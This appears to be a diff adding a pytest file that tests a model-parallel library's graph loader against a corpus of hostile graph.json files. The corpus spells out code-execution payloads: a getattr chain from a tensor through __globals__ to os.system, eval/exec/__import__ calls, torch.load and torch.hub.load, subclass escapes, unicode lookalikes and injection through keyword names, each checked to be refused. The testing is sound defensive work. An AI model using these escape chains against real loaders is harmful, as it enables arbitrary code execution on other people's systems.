@@ -1,0 +1,383 @@
+"""A graph file never runs code: a corpus of escape attempts, each refused before anything is built.
+
+Every attempt is a graph.json whose hostile node would, if anything from it ran, create a sentinel
+file (or read one). Each graph starts with a `Tripwire` layer, a class the test registers whose
+constructor records that it ran: a refused graph must leave no sentinel and no tripwire, and the
+GraphFormatError must name the hostile node. The corpus runs through every path that builds layers
+from a file: build_stages, full_model_from_graph, package generation, the codegen command line,
+PipelineTrainer(graph), the worker (--graph, --package) and the coordinator.
+"""
+from __future__ import annotations
+
+import json
+import subprocess
+import sys
+from dataclasses import dataclass, field
+from pathlib import Path
+from typing import Any
+
+import pytest
+import torch
+from torch import nn
+
+from model_parallel.cli.common import run_cli
+from model_parallel.codegen.build import build_stages, full_model_from_graph
+from model_parallel.codegen.package import generate_package
+from model_parallel.errors import GraphFormatError
+from model_parallel.graph import loader
+from model_parallel.graph.core import Graph
+from model_parallel.graph.json_format import graph_from_dict
+from model_parallel.graph.plan import Plan, StagePlan
+
+torch.set_num_threads(1)
+ROOT = Path(__file__).resolve().parents[1]
+BUILT: list[str] = []  # Tripwire constructions
+
+
+class Tripwire(nn.Module):
+    """A legitimate layer placed before the hostile node: constructing it means layers were built."""
+
+    def __init__(self) -> None:
+        super().__init__()
+        BUILT.append("tripwire")
+
+    def forward(self, x: torch.Tensor) -> torch.Tensor:
+        return x
+
+
+def halve(x: torch.Tensor) -> torch.Tensor:
+    """A user's helper that fx keeps as one call (wrapped): a graph names it `test_loader_security.halve`."""
+    return x / 2
+
+
+torch.fx.wrap("halve")
+
+
+class Halving(nn.Module):
+    def __init__(self) -> None:
+        super().__init__()
+        self.lin = nn.Linear(4, 4)
+
+    def forward(self, x: torch.Tensor) -> torch.Tensor:
+        return halve(self.lin(x))
+
+
+@dataclass(frozen=True)
+class Attempt:
+    name: str
+    nodes: list  # (node_id, layer dict) after the input and the tripwire; the last one is the output
+    metadata: dict = field(default_factory=dict)
+    code_named: bool = True  # refused by the function/method/form checks alone (so also by the coordinator)
+
+
+def _call(target: str, *args: Any, op: str = "call_function", **kwargs: Any) -> dict:
+    return {"op": op, "target": target, "args": list(args), "kwargs": kwargs}
+
+
+def _module(expression: str) -> dict:
+    return {"op": "call_module", "target": "evil", "args": [{"node": "trip"}], "module": expression}
+
+
+def corpus(sentinel: Path) -> list[Attempt]:
+    s = str(sentinel)
+    shell = f"touch {s}"
+    system = f"__import__('os').system({shell!r})"
+    x = {"node": "trip"}
+    return [
+        # The issue's exploit: getattr walks from a tensor to torch's `os`, and map drives os.system.
+        Attempt("getattr_chain_globals_map", [
+            ("evil", _call("builtins.getattr", x, "__class__")),
+            ("evil_repr", _call("builtins.getattr", {"node": "evil"}, "__repr__")),
+            ("evil_globals", _call("builtins.getattr", {"node": "evil_repr"}, "__globals__")),
+            ("evil_torch", _call("operator.getitem", {"node": "evil_globals"}, "torch")),
+            ("evil_os", _call("builtins.getattr", {"node": "evil_torch"}, "os")),
+            ("evil_system", _call("builtins.getattr", {"node": "evil_os"}, "system")),
+            ("evil_map", _call("builtins.map", {"node": "evil_system"}, [shell])),
+            ("evil_run", _call("builtins.list", {"node": "evil_map"})),
+        ]),
+        Attempt("getattr_plain_spelling", [("evil", _call("getattr", x, "__class__"))]),
+        Attempt("getattr_unknown_attribute", [("evil", _call("getattr", x, "grad_fn"))]),
+        Attempt("getattr_attribute_from_a_node", [("evil", _call("getattr", x, x))]),
+        # The issue's second exploit: metadata.model_class widened the allowed roots to `os`.
+        Attempt("model_class_os_system", [("evil", _call("os.system", shell))], {"model_class": "os.system"}),
+        Attempt("model_class_os_path", [("evil", _call("os.path.os.system", shell))], {"model_class": "os.path.join"}),
+        Attempt("model_class_constructor", [("evil", _module(f"subprocess.Popen(['touch', {s!r}])"))],
+                {"model_class": "subprocess.Popen"}, code_named=False),
+        Attempt("operator_attrgetter", [("evil", _call("operator.attrgetter", "__class__"))]),
+        Attempt("operator_methodcaller", [("evil", _call("operator.methodcaller", "system", shell))]),
+        Attempt("builtins_eval", [("evil", _call("builtins.eval", system))]),
+        Attempt("builtins_exec", [("evil", _call("exec", system))]),
+        Attempt("builtins_compile", [("evil", _call("builtins.compile", system, "<graph>", "eval"))]),
+        Attempt("builtins_import", [("evil", _call("builtins.__import__", "os"))]),
+        Attempt("builtins_open", [("evil", _call("builtins.open", s, "w"))]),
+        Attempt("builtins_setattr", [("evil", _call("builtins.setattr", x, "forward", 1))]),
+        Attempt("torch_load", [("evil", _call("torch.load", s))]),
+        Attempt("torch_hub_load", [("evil", _call("torch.hub.load", "evil/repo", "model"))]),
+        Attempt("torch_ops_load_library", [("evil", _call("torch.ops.load_library", s))]),
+        Attempt("torch_name_importer", [("evil", _call("torch.set_default_tensor_type", "os.system"))]),
+        Attempt("module_namespace_walk", [("evil", _call("torch.nn.functional.importlib.import_module", "os"))]),
+        Attempt("unicode_lookalike_function", [("evil", _call("torch.l\u043ead", s))]),  # Cyrillic o
+        Attempt("unicode_lookalike_constructor", [("evil", _module(f"\uff4f\uff53.system({shell!r})"))]),  # fullwidth os
+        Attempt("constructor_call_in_arguments", [("evil", _module(f"torch.nn.Linear(4, {system})"))]),
+        Attempt("constructor_nested_call", [("evil", _module("torch.nn.Sequential(torch.nn.Linear(4, 4))"))]),
+        Attempt("constructor_lambda", [("evil", _module(f"torch.nn.Linear((lambda: {system})(), 4)"))]),
+        Attempt("constructor_attribute_in_arguments",
+                [("evil", _module("torch.nn.Linear(().__class__.__base__.__subclasses__()[0], 4)"))]),
+        Attempt("constructor_starred_kwargs", [("evil", _module(f"torch.nn.Linear(*[4, 4], **{{'bias': {system}}})"))]),
+        Attempt("constructor_not_a_call", [("evil", _module(f"torch.nn.Linear(4, 4) if {system} else 0"))]),
+        Attempt("constructor_100kb", [("evil", _module("torch.nn.Linear(" + "1+" * 50_000 + "1, 4)"))]),
+        Attempt("constructor_dunder_class", [("evil", _module("torch.nn.Linear.__init__.__globals__(4, 4)"))]),
+        Attempt("method_register_hook", [("evil", _call("register_hook", x, op="call_method"))]),
+        Attempt("method_dunder_reduce", [("evil", _call("__reduce_ex__", x, 2, op="call_method"))]),
+        Attempt("method_numpy_then_dump", [("evil", _call("numpy", x, op="call_method")),
+                                           ("evil_dump", _call("dump", {"node": "evil"}, s, op="call_method"))]),
+        Attempt("get_attr_dunder", [("evil", {"op": "get_attr", "target": "__class__"})]),
+        # fx prints keyword names into the forward's source: this one would run os.system there.
+        Attempt("keyword_name_source_injection",
+                [("evil", _call("torch.relu", x, **{f"input=x) if {system} else torch.relu(input": 1}))]),
+        Attempt("callable_typed_argument", [("evil", _call("builtins.max", [s], key={"dtype": "load"}))]),
+        Attempt("deeply_nested_arguments", [("evil", _call("torch.cat", _nested([x], 100)))]),
+    ]
+
+
+def _nested(value: Any, depth: int) -> Any:
+    for _ in range(depth):
+        value = [value]
+    return value
+
+
+def _refs(value: Any) -> list[str]:
+    if isinstance(value, list):
+        return [r for v in value for r in _refs(v)]
+    if isinstance(value, dict):
+        return [value["node"]] if set(value) == {"node"} else [r for v in value.values() for r in _refs(v)]
+    return []
+
+
+def graph_dict(attempt: Attempt, tripwire: bool = True) -> dict:
+    """graph.json of the attempt: input x, (tripwire), the hostile nodes; every node on stage 0."""
+    first = "trip" if tripwire else "x"
+    nodes = [("x", {"op": "placeholder", "target": "x", "outputs": [{"shape": [2, 4], "dtype": "float32"}]})]
+    if tripwire:
+        nodes.append(("trip", {"op": "call_module", "target": "trip", "args": [{"node": "x"}],
+                               "module": f"{__name__}.Tripwire()"}))
+    nodes += [(i, json.loads(json.dumps(layer).replace('"trip"', f'"{first}"'))) for i, layer in attempt.nodes]
+    edges = [[ref, node_id] for node_id, layer in nodes for ref in dict.fromkeys(_refs([layer.get("args"), layer.get("kwargs")]))]
+    return {
+        "schema": "model_parallel.graph", "version": 1,
+        "metadata": {"outputs": {"node": nodes[-1][0]}, "inputs": [{"name": "x", "shape": [2, 4], "dtype": "float32"}],
+                     "model_class": f"{__name__}.Model", **attempt.metadata},
+        "nodes": [{"id": i, "description": layer["op"], "forward_ms": 1.0, "backward_ms": 1.0, "activation_size": 32.0,
+                   "parameter_size": 0.0, "stage_id": 0, "layer": layer} for i, layer in nodes],
+        "edges": edges,
+    }
+
+
+def one_stage(graph: Graph) -> Plan:
+    return Plan((StagePlan(0, tuple(graph.topological_order), ranks=(0,)),))
+
+
+@pytest.fixture
+def registry(monkeypatch: pytest.MonkeyPatch) -> None:
+    """A fresh class registry holding only Tripwire, restored after the test; no tripwire built yet."""
+    monkeypatch.setattr(loader, "_registered_classes", {})
+    monkeypatch.setattr(loader, "_registered_functions", {})
+    loader.register_layer_classes(Tripwire)
+    BUILT.clear()
+
+
+SENTINEL_NAME = "pwned"
+ATTEMPTS = corpus(Path("/nonexistent") / SENTINEL_NAME)
+
+
+def _hostile(attempt: Attempt, tmp_path: Path, tripwire: bool = True) -> Graph:
+    rebuilt = next(a for a in corpus(tmp_path / SENTINEL_NAME) if a.name == attempt.name)
+    return graph_from_dict(graph_dict(rebuilt, tripwire), f"{attempt.name}.json")
+
+
+def _assert_refused(error: pytest.ExceptionInfo, tmp_path: Path) -> None:
+    message = str(error.value)
+    assert "node evil" in message and "is not allowed in a graph file" in message, message
+    assert "\n" not in message
+    assert not (tmp_path / SENTINEL_NAME).exists(), "the hostile graph ran code"
+    assert BUILT == [], "layers were built before the graph was refused"
+
+
+def test_corpus_is_large_and_the_skeleton_builds(registry: None, tmp_path: Path) -> None:
+    assert len(ATTEMPTS) >= 20 and len({a.name for a in ATTEMPTS}) == len(ATTEMPTS)
+    benign = Attempt("benign", [("evil", _call("torch.relu", {"node": "trip"}))])
+    graph = graph_from_dict(graph_dict(benign), "benign.json")
+    (stage,) = build_stages(graph, one_stage(graph))
+    assert BUILT == ["tripwire"]  # the tripwire really fires when layers are built
+    assert torch.equal(stage(torch.tensor([[-1.0, 2.0]]))[0], torch.tensor([[0.0, 2.0]]))
+
+
+@pytest.mark.parametrize("attempt", ATTEMPTS, ids=lambda a: a.name)
+def test_build_stages_refuses(attempt: Attempt, registry: None, tmp_path: Path) -> None:
+    graph = _hostile(attempt, tmp_path)
+    with pytest.raises(GraphFormatError) as error:
+        build_stages(graph, one_stage(graph))
+    _assert_refused(error, tmp_path)
+
+
+@pytest.mark.parametrize("attempt", ATTEMPTS, ids=lambda a: a.name)
+def test_full_model_from_graph_refuses(attempt: Attempt, registry: None, tmp_path: Path) -> None:
+    with pytest.raises(GraphFormatError) as error:
+        full_model_from_graph(_hostile(attempt, tmp_path))
+    _assert_refused(error, tmp_path)
+
+
+@pytest.mark.parametrize("attempt", ATTEMPTS, ids=lambda a: a.name)
+def test_package_generation_refuses(attempt: Attempt, registry: None, tmp_path: Path) -> None:
+    graph = _hostile(attempt, tmp_path)
+    with pytest.raises(GraphFormatError) as error:
+        generate_package(graph, one_stage(graph), tmp_path / "pkg", "Evil", "evil")
+    _assert_refused(error, tmp_path)
+    assert not (tmp_path / "pkg").exists()
+
+
+@pytest.mark.parametrize("attempt", ATTEMPTS, ids=lambda a: a.name)
+def test_pipeline_trainer_refuses(attempt: Attempt, registry: None, tmp_path: Path) -> None:
+    from model_parallel.runtime.data import SyntheticData
+    from model_parallel.runtime.trainer import PipelineTrainer
+
+    with pytest.raises(GraphFormatError) as error:
+        PipelineTrainer(_hostile(attempt, tmp_path), lambda params: torch.optim.SGD(params, lr=0.1),
+                        SyntheticData(4, (4,), 4), single_process=True)
+    _assert_refused(error, tmp_path)
+
+
+@pytest.mark.parametrize("attempt", ATTEMPTS, ids=lambda a: a.name)
+def test_codegen_command_line_refuses(attempt: Attempt, registry: None, tmp_path: Path,
+                                      capsys: pytest.CaptureFixture, monkeypatch: pytest.MonkeyPatch) -> None:
+    from model_parallel.optimizer import convert_graph_to_model
+    from model_parallel.optimizer.convert_graph_to_model import main
+
+    monkeypatch.setattr(convert_graph_to_model, "configure_logging", lambda verbose: None)  # would outlive capsys
+    path = tmp_path / "graph.json"
+    path.write_text(json.dumps(graph_dict(next(a for a in corpus(tmp_path / SENTINEL_NAME) if a.name == attempt.name))))
+    with pytest.raises(SystemExit) as exit_info:
+        run_cli(main, ["-f", str(path), "-n", "Evil", "-a", "evil", "-o", str(tmp_path / "pkg")])
+    assert exit_info.value.code == 2
+    lines = capsys.readouterr().err.strip().splitlines()
+    assert len(lines) == 1 and "node evil" in lines[0] and "is not allowed in a graph file" in lines[0], lines
+    assert not (tmp_path / SENTINEL_NAME).exists() and BUILT == [] and not (tmp_path / "pkg").exists()
+
+
+@pytest.mark.parametrize("name", ["getattr_chain_globals_map", "model_class_os_system", "keyword_name_source_injection"])
+def test_codegen_script_in_a_subprocess_exits_2_with_one_line(name: str, tmp_path: Path) -> None:
+    attempt = next(a for a in corpus(tmp_path / SENTINEL_NAME) if a.name == name)
+    path = tmp_path / "graph.json"
+    path.write_text(json.dumps(graph_dict(attempt, tripwire=False)))  # Tripwire is unknown in a fresh process
+    result = subprocess.run(
+        [sys.executable, str(ROOT / "model_parallel/optimizer/convert_graph_to_model.py"), "-f", str(path),
+         "-n", "Evil", "-a", "evil", "-o", str(tmp_path / "pkg")],
+        capture_output=True, text=True, timeout=120, cwd=tmp_path,
+    )
+    lines = result.stderr.strip().splitlines()
+    assert result.returncode == 2 and len(lines) == 1, result.stderr
+    assert "node evil" in lines[0] and "is not allowed in a graph file" in lines[0]
+    assert not (tmp_path / SENTINEL_NAME).exists() and not (tmp_path / "pkg").exists()
+
+
+def _worker(args: list[str], cwd: Path) -> subprocess.CompletedProcess:
+    return subprocess.run([sys.executable, str(ROOT / "test_parallel_0.py"), *args, "--steps", "1", "--timeout", "30"],
+                          capture_output=True, text=True, timeout=180, cwd=cwd)
+
+
+def test_worker_refuses_a_hostile_graph(tmp_path: Path) -> None:
+    from model_parallel.runtime.launch import launch_workers
+
+    attempt = next(a for a in corpus(tmp_path / SENTINEL_NAME) if a.name == "getattr_chain_globals_map")
+    path = tmp_path / "graph.json"
+    path.write_text(json.dumps(graph_dict(attempt, tripwire=False)))
+    result = launch_workers(["--graph", str(path), "--steps", "1", "--timeout", "30"], 1, timeout=150)
+    assert result.workers[0].returncode == 2, result.summary()
+    assert "node evil" in result.output(0) and "is not allowed in a graph file" in result.output(0)
+    assert not (tmp_path / SENTINEL_NAME).exists()
+
+
+def test_worker_refuses_a_package_with_a_hostile_graph(tmp_path: Path) -> None:
+    attempt = next(a for a in corpus(tmp_path / SENTINEL_NAME) if a.name == "model_class_os_path")
+    package = tmp_path / "package"
+    package.mkdir()
+    graph = graph_dict(attempt, tripwire=False)
+    (package / "graph.json").write_text(json.dumps(graph))
+    (package / "plan.json").write_text(json.dumps(one_stage(graph_from_dict(graph)).to_dict()))
+    result = _worker(["--single_process", "--package", str(package)], tmp_path)
+    assert result.returncode == 2, result.stderr
+    assert "node evil" in result.stderr and "is not allowed in a graph file" in result.stderr
+    assert not (tmp_path / SENTINEL_NAME).exists()
+
+
+@pytest.mark.parametrize("attempt", [a for a in ATTEMPTS if a.code_named], ids=lambda a: a.name)
+def test_coordinator_refuses_a_hostile_graph(attempt: Attempt, registry: None, tmp_path: Path) -> None:
+    from model_parallel.coordinator.server import Coordinator
+
+    graph = _hostile(attempt, tmp_path)
+    with pytest.raises(GraphFormatError) as error:
+        Coordinator(graph, one_stage(graph), b"token", policy="manual")
+    _assert_refused(error, tmp_path)
+
+
+def test_registered_classes_and_functions_are_the_only_widening(registry: None, tmp_path: Path) -> None:
+    # metadata.model_class names this module, yet its classes stay out until the process registers them.
+    class Doubler(nn.Module):
+        def forward(self, x: torch.Tensor) -> torch.Tensor:
+            return 2 * x
+
+    Doubler.__qualname__ = "Doubler"  # importable spelling: module.Doubler
+    doubler = Attempt("doubler", [("evil", _module(f"{__name__}.Doubler()"))])
+    graph = graph_from_dict(graph_dict(doubler), "doubler.json")
+    with pytest.raises(GraphFormatError, match=rf"node evil .*module class '{__name__}.Doubler' is not allowed.*register"):
+        full_model_from_graph(graph)
+    loader.register_layer_classes(Doubler)
+    assert torch.equal(full_model_from_graph(graph)(torch.ones(1, 4)), 2 * torch.ones(1, 4))
+
+
+def test_real_models_pass_the_loader(registry: None) -> None:
+    # What fx records for the repo's models (TinyGPT: sdpa via torch._C._nn, getattr(x, "shape"), ...)
+    # is inside the allow-lists: the stages build and compute what the model computes.
+    from model_parallel.models import TinyGPT
+    from model_parallel.profiler.trace import trace_model
+
+    torch.manual_seed(0)
+    model = TinyGPT(vocab_size=32, seq_len=8, dim=16, num_heads=2, num_layers=1).eval()
+    tokens = torch.randint(0, 32, (2, 8))
+    graph, _ = trace_model(model, (tokens,))
+    rebuilt = full_model_from_graph(graph).eval()
+    from model_parallel.codegen.naming import stage_state_from_original
+
+    rebuilt.load_state_dict(stage_state_from_original(graph, model.state_dict()))
+    assert torch.allclose(rebuilt(tokens), model(tokens))
+
+
+def test_trainer_allows_the_functions_of_the_model_it_traced(registry: None) -> None:
+    # PipelineTrainer(model) traced the model itself, so its wrapped helper is allowed; the same graph
+    # loaded without the model (a file, in a fresh process) is refused, naming the helper.
+    from model_parallel.runtime.data import SyntheticData
+    from model_parallel.runtime.engine import TrainConfig
+    from model_parallel.runtime.trainer import PipelineTrainer
+
+    torch.manual_seed(0)
+    trainer = PipelineTrainer(Halving(), lambda params: torch.optim.SGD(params, lr=0.1), SyntheticData(4, (4,), 4),
+                              TrainConfig(batch_size=4, num_microbatches=2), single_process=True)
+    halve_node = next(n for n in trainer.graph.nodes if n.layer.target == f"{__name__}.halve")
+    assert len(list(trainer.train(1))) == 1
+    loader._registered_functions.clear()
+    with pytest.raises(GraphFormatError, match=rf"node {halve_node.node_id} .*function '{__name__}.halve' is not allowed"):
+        full_model_from_graph(trainer.graph)
+
+
+def test_torchvision_graphs_pass_the_loader(registry: None) -> None:
+    # ViT records torch._assert and getattr(x, "shape"); EfficientNet torchvision's wrapped stochastic_depth.
+    from model_parallel.compat import import_torchvision
+    from model_parallel.profiler.trace import trace_model
+
+    tv = import_torchvision()
+    vit = tv.models.VisionTransformer(image_size=32, patch_size=16, num_layers=1, num_heads=2, hidden_dim=16, mlp_dim=16)
+    for model in (vit, tv.models.efficientnet_b0(num_classes=10)):
+        graph, _ = trace_model(model.eval(), (torch.randn(1, 3, 32, 32),))
+        targets = {n.layer.target for n in graph.nodes}
+        assert targets & {"torch._assert", "torchvision.ops.stochastic_depth.stochastic_depth"}
+        loader.check_graph(graph)  # no custom class registered: only torch.nn constructors in there
